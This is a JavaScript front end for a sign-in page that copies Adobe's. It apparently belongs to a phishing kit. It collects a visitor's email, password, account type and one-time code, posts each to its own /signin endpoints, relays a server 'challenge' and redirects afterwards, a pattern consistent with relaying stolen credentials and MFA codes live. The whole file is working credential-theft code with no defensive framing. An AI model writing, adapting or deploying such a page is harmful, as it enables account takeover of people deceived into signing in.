// Adobe's sign-in: one page that swaps its views, as the real one does.
import { boot, stagger } from "./dom.js";

// The fragment of the page that was wanted came along through the redirects; it has to go back the same way.
const fragment = location.hash;
const given = { redirect_uri: boot.redirect_uri };

const byDataId = (name) => document.querySelector(`[data-id="${name}"]`);

function show(view) {
  for (const section of document.querySelectorAll("section")) section.hidden = section.id !== view;
  document.querySelector(`#${view} input`)?.focus();
}

async function post(path, body) {
  const answer = await fetch(path, {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify(body),
  });
  return answer.json();
}

/** Send what was given so far, and go where the answer says; an error is shown and false returned. */
async function advance(path, error) {
  error.hidden = true;
  await stagger();
  const answer = await post(path, given);
  if (answer.error) {
    error.textContent = answer.error;
    error.hidden = false;
    return false;
  }
  if (answer.redirect) return location.assign(answer.redirect + fragment);
  if (answer.challenge) given.challenge = answer.challenge;
  byDataId("AccountEmail").textContent = given.email;
  await stagger();
  show(answer.next);
  return true;
}

/** Wire one view: its field's value goes to the server under a name, and the answer says which view comes next. */
function wire(view, field, name, path) {
  const input = document.getElementById(`${view}-${field}`);
  const button = byDataId(`${view}-ContinueButton`);
  const submit = async () => {
    button.disabled = true;
    given[name] = input.value;
    await advance(path, byDataId(`${view}-${field}-Error`));
    button.disabled = false;
  };
  button.addEventListener("click", submit);
  input.addEventListener("keydown", (event) => event.key === "Enter" && submit());
}

/** One field a digit: typing goes on to the next, and the last one sends the code without a button. */
function wireDigits() {
  const inputs = [...document.querySelectorAll('[data-id^="CodeInput-"]:is(input)')];
  inputs.forEach((input, index) => input.addEventListener("input", async () => {
    if (input.value) inputs[index + 1]?.focus();
    given.otp = inputs.map((each) => each.value).join("");
    if (given.otp.length < inputs.length) return;
    if (await advance("/signin/code", byDataId("CodeInput-Error")) === false) {
      for (const each of inputs) each.value = "";
      inputs[0].focus();
    }
  }));
}

for (const account of ["individual", "enterprise"]) {
  byDataId(`AccountChooser-AccountList-${account}`).addEventListener("click", async () => {
    given.account = account;
    await stagger();
    show("PasswordPage");
  });
}

wire("EmailPage", "EmailField", "email", "/signin/email");
wire("PasswordPage", "PasswordField", "password", "/signin/password");
wire("CodePage", "CodeField", "otp", "/signin/code");
wireDigits();
await stagger();
show("EmailPage");
